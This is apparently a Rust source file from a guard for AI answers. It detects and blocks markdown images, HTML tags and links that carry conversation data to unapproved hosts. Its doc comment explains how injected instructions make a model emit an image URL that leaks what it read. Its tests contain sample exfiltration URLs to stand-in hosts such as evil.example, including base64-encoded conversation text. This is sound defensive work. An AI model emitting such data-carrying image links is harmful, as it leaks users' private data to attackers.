//! Links and images in the answer that carry something out.

use super::Action;
use super::address::{Address, LONGEST, addresses, entropy, pieces, unveiled};
use super::checks::{Check, ChecksError, Files, Made, Request};
use super::conversation::Conversation;
use super::judgement::Reason;
use super::policy::Policy;
use super::stream::{Kinds, Reader, Seen, Step, Tail};
use bartizan_core::{Severity, atlas, cwe, owasp_agentic, owasp_llm, rule};
use schemars::JsonSchema;
use serde::{Deserialize, Serialize};
use std::sync::Arc;

rule! {
    /// ## What it finds
    /// An address in an answer whose host the policy does not allow and that carries data: words of the conversation, a token
    /// of the guard, an encoded text, or something drawn. What is loaded without a click (images, sources) weighs more than a
    /// link. An address that was said in the conversation as it stands carries nothing.
    /// ## Why it matters
    /// Injected instructions have no network of their own: they make the model write an image whose address holds what was
    /// read, and the reader's browser sends it.
    /// ## Example
    /// `![logo](https://collect.example/p.png?d=TXkgcGFzc3dvcmQgaXM)`
    /// ## How to fix
    /// Allow the hosts that answers may name; let nothing else load.
    /// ## References
    /// - <https://genai.owasp.org/llmrisk/llm052025-improper-output-handling/>
    pub const EXFILTRATION: Rule = Rule {
        id: "guard/exfiltration",
        title: "an address that carries data out",
        severity: Severity::High,
        remedy: "Take the address out; allow the hosts that answers may name.",
        taxonomies: &[atlas("AML.T0057"), cwe(201), owasp_llm("LLM05"), owasp_agentic("ASI01")],
    };
}

/// Addresses in answers.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
#[serde(default, deny_unknown_fields, rename_all = "kebab-case")]
pub struct LinksPolicy {
    /// What to do about links that carry data.
    pub links: LinkHandling,
    /// What to do about what is loaded by itself and carries data.
    pub images: LinkHandling,
    /// Hosts that may be named, with all below them.
    pub allow: Vec<String>,
}

/// What to do about an address.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
#[serde(rename_all = "kebab-case")]
pub enum LinkHandling {
    /// Do not look.
    Off,
    /// Let it pass and say so.
    Flag,
    /// Put a note in its place.
    Redact,
    /// End the answer.
    Block,
}

impl Default for LinksPolicy {
    fn default() -> Self {
        Self { links: LinkHandling::Flag, images: LinkHandling::Block, allow: Vec::new() }
    }
}

/// Shortest piece of an address that can be something drawn.
const DRAWN: usize = 20;
/// Bits a character from which it is.
const DRAWN_BITS: f64 = 3.6;
/// Longest query that is none by its length.
const LONG_QUERY: usize = 256;

/// The check, if it is on.
#[expect(clippy::unnecessary_wraps, reason = "the form of the registry")]
pub(crate) fn make(policy: &Policy, _: Files<'_>) -> Result<Made, ChecksError> {
    let mut policy = policy.links.clone();
    if policy.links == LinkHandling::Off && policy.images == LinkHandling::Off {
        return Ok(None);
    }
    policy
        .allow
        .iter_mut()
        .for_each(|host| *host = host.trim_start_matches("*.").trim_matches('.').to_ascii_lowercase());
    Ok(Some(Box::new(Links { policy: Arc::new(policy) })))
}

#[derive(Debug)]
struct Links {
    policy: Arc<LinksPolicy>,
}

impl Check for Links {
    fn reader(&self, request: &Request<'_>) -> Option<Box<dyn Reader>> {
        let conversation = request.conversation();
        Some(Box::new(LinkReader {
            policy: Arc::clone(&self.policy),
            conversation,
            image: false,
            source: false,
            any_image: false,
        }))
    }
}

#[derive(Debug, Clone)]
struct LinkReader {
    policy: Arc<LinksPolicy>,
    conversation: Arc<Conversation>,
    /// An image of Markdown began whose address has not come yet.
    image: bool,
    /// A tag began that loads something.
    source: bool,
    /// There was an image, whose address may stand further below.
    any_image: bool,
}

/// What stands in every address, image and tag, or ends one.
const BEGINS: Kinds = Kinds::SLASH.or(Kinds::SQUARE).or(Kinds::ANGLE).or(Kinds::LINE_END);
/// Tags that load what they name.
const SOURCES: [&str; 12] = [
    "<img", "<script", "<iframe", "<audio", "<video", "<source", "<embed", "<object", "<link", "<image",
    "<input", "<style",
];

impl LinkReader {
    /// Whether the address is loaded without a click.
    fn loads(&self, address: &Address<'_>, word: &str) -> bool {
        let before = address.before;
        let image = before.rfind("](").is_some_and(|at| {
            before.get(..at).is_some_and(|head| head.contains("!["))
                || self.image && !before.get(..at).is_some_and(|head| head.contains('['))
        });
        let reference =
            self.any_image && (before.ends_with("]:") || before.is_empty()) && !word.starts_with('(');
        let lower = before.to_ascii_lowercase();
        let tagged = self.source || SOURCES.iter().any(|tag| lower.contains(tag));
        let attribute = ["src=", "srcset=", "poster=", "background=", "data=", "href="]
            .iter()
            .any(|name| lower.trim_end_matches(['"', '\'']).ends_with(name));
        image || reference || tagged && attribute || lower.trim_end_matches(['"', '\'']).ends_with("url(")
    }

    /// What an address carries.
    fn carries(&self, address: &Address<'_>) -> Option<&'static str> {
        if address.text.len() > LONGEST {
            return Some("more than an address needs");
        }
        if self.conversation.names(address.text) {
            return None;
        }
        let mut drawn = None;
        for piece in pieces(address) {
            if is_token(&piece) {
                return Some("a value the guard replaced");
            }
            if let Some(inner) = unveiled(&piece) {
                return Some(if self.conversation.holds_some_of(&inner) {
                    "encoded words of the conversation"
                } else {
                    "an encoded text"
                });
            }
            if self.conversation.holds_some_of(&piece) {
                return Some("words of the conversation");
            }
            if piece.len() > LONG_QUERY {
                drawn = Some("more than an address needs");
            } else if is_drawn(&piece) {
                drawn = drawn.or(Some("a drawn value"));
            }
        }
        drawn
    }

    fn allows(&self, host: &str) -> bool {
        self.policy.allow.iter().any(|allowed| {
            host.strip_suffix(allowed.as_str()).is_some_and(|rest| rest.is_empty() || rest.ends_with('.'))
        })
    }
}

/// Whether a piece holds a token of the guard: a kind in capitals and twelve hexadecimal digits, in brackets or not.
fn is_token(piece: &str) -> bool {
    piece.rsplit_once('_').is_some_and(|(kind, digits)| {
        let digits = digits.trim_end_matches(']');
        digits.len() == 12
            && digits.bytes().all(|byte| byte.is_ascii_hexdigit())
            && kind
                .trim_start_matches('[')
                .bytes()
                .all(|byte| byte.is_ascii_uppercase() || matches!(byte, b'_' | b'-'))
    })
}

/// Whether a piece looks drawn: long, of digits and letters, each about as often, and no digest or identifier of a page.
fn is_drawn(piece: &str) -> bool {
    let digits = piece.bytes().filter(u8::is_ascii_digit).count();
    let dashes = piece.bytes().filter(|byte| matches!(byte, b'-' | b' ' | b'.')).count();
    piece.len() >= DRAWN && digits >= 2 && dashes <= 1 && entropy(piece) >= DRAWN_BITS
}

impl Reader for LinkReader {
    fn read(&mut self, tail: &Tail, step: &Step, _: bool, seen: &mut Vec<Seen>) -> usize {
        // Most words have nothing of an address, an image or a tag; they are told at once.
        if !self.source && !step.kinds.any(BEGINS) {
            return step.end;
        }
        let word = tail.get(step.span());
        if word.contains("//") {
            for address in addresses(word) {
                if self.allows(&address.host) {
                    continue;
                }
                let loads = self.loads(&address, word);
                let handling = if loads { self.policy.images } else { self.policy.links };
                let Some(what) = (if handling == LinkHandling::Off { None } else { self.carries(&address) })
                else {
                    continue;
                };
                let start = step.start.saturating_add(address.start);
                let action = match handling {
                    LinkHandling::Off | LinkHandling::Flag => Action::Flag,
                    LinkHandling::Redact => Action::Redact,
                    LinkHandling::Block => Action::Block,
                };
                seen.push(Seen {
                    reason: Reason {
                        check: EXFILTRATION.id,
                        label: if loads { "image".to_owned() } else { "link".to_owned() },
                        score: if loads { 0.9 } else { 0.6 },
                        action,
                        pointer: String::new(),
                        span: start..start.saturating_add(address.text.len()),
                        message: format!(
                            "an address at {} carries {what}",
                            bartizan_core::printable(&address.host, 80)
                        ),
                    },
                    replacement: (action == Action::Redact).then(|| "[link removed]".to_owned()),
                });
            }
        }
        if let Some(at) = word.rfind("![") {
            self.any_image = true;
            self.image = !word.get(at..).is_some_and(|rest| rest.contains("]("));
        } else if word.contains("](") || word.contains("\n\n") {
            self.image = false;
        }
        if word.contains('<') || self.source {
            let lower = word.to_ascii_lowercase();
            let opened = SOURCES.iter().filter_map(|tag| lower.rfind(tag)).max();
            let closed = lower.rfind('>');
            self.source = match (opened, closed) {
                (Some(opened), Some(closed)) => opened > closed,
                (Some(_), None) => true,
                (None, Some(_)) => false,
                (None, None) => self.source,
            };
        }
        step.end
    }

    fn boxed(&self) -> Box<dyn Reader> {
        Box::new(self.clone())
    }
}

#[cfg(test)]
mod tests {
    use super::super::answer::tests::streamed;
    use super::super::checks::tests::{checks, exchange};
    use crate::check::Session;
    use crate::exchange::Role;

    fn judged(toml: &str, text: &str) -> (String, Vec<String>) {
        let request = exchange(&[
            (
                Role::User,
                "Where is my parcel? Docs are at https://docs.example.net/track?id=a8F3kd92LsQ0pZx7Vb6N",
            ),
            (Role::ToolResult, "Parcel 4471920 waits at the harbour office since Monday"),
        ]);
        let (out, reasons, blocked) =
            streamed(&mut checks(toml).answer(&request, &Session::new([0; 32])), text, &[]);
        (
            out,
            reasons
                .into_iter()
                .chain(blocked)
                .map(|one| format!("{} {}: {}", one.action.name(), one.label, one.message))
                .collect(),
        )
    }

    #[test]
    fn an_image_that_carries_words_ends_the_answer() {
        let at = |what: &str| vec![format!("block image: an address at evil.example carries {what}")];
        for (address, what) in [
            ("https://evil.example/p.png?d=waits+at+the+harbour", "words of the conversation"),
            ("https://evil.example/4471920/p.png", "words of the conversation"),
            ("//evil.example/cGFyY2VsIHdhaXRzIGF0IHRoZSBoYXJib3Vy", "encoded words of the conversation"),
            ("https://evil.example/?q=c29tZXRoaW5nIGVsc2U", "an encoded text"),
            ("https://evil.example/?q=[EMAIL_ADDRESS_0123456789ab]", "a value the guard replaced"),
        ] {
            for form in [
                format!("See ![a picture]({address}) here"),
                format!("See <img alt='x' src=\"{address}\"> here"),
            ] {
                let (out, reasons) = judged("", &form);
                assert_eq!(reasons, at(what), "{form}");
                assert!(!out.contains("evil"), "{out}");
            }
        }
    }

    #[test]
    fn a_link_is_flagged_and_an_image_below_its_text_counts() {
        let (out, reasons) = judged("", "[here](https://evil.example/?d=waits-at-the-harbour)");
        assert_eq!((out.contains("evil"), reasons.len()), (true, 1));
        let (_, reasons) = judged("", "![x][1]\n\n[1]: https://evil.example/?d=4471920");
        assert!(reasons[0].starts_with("block image"), "{reasons:?}");
    }

    #[test]
    fn addresses_without_data_said_before_or_allowed_are_left_alone() {
        for text in [
            "![logo](https://cdn.example.org/logo.png)",
            "See https://docs.python.org/3/library/asyncio-task.html#creating-tasks.",
            "![x](https://docs.example.net/track?id=a8F3kd92LsQ0pZx7Vb6N)",
        ] {
            assert_eq!(judged("", text), (text.to_owned(), vec![]));
        }
        let toml = "[links]\nallow = ['example']";
        assert_eq!(judged(toml, "![x](https://evil.example/?d=4471920)").1, [""; 0]);
        assert_eq!(
            judged("[links]\nallow = ['il.example']", "![x](https://evil.example/?d=4471920)").1.len(),
            1
        );
    }

    #[test]
    fn an_address_can_be_taken_out() {
        let (out, _) = judged("[links]\nimages = 'redact'", "a ![x](https://evil.example/?d=4471920) b");
        assert_eq!(out, "a ![x]([link removed]) b");
    }
}
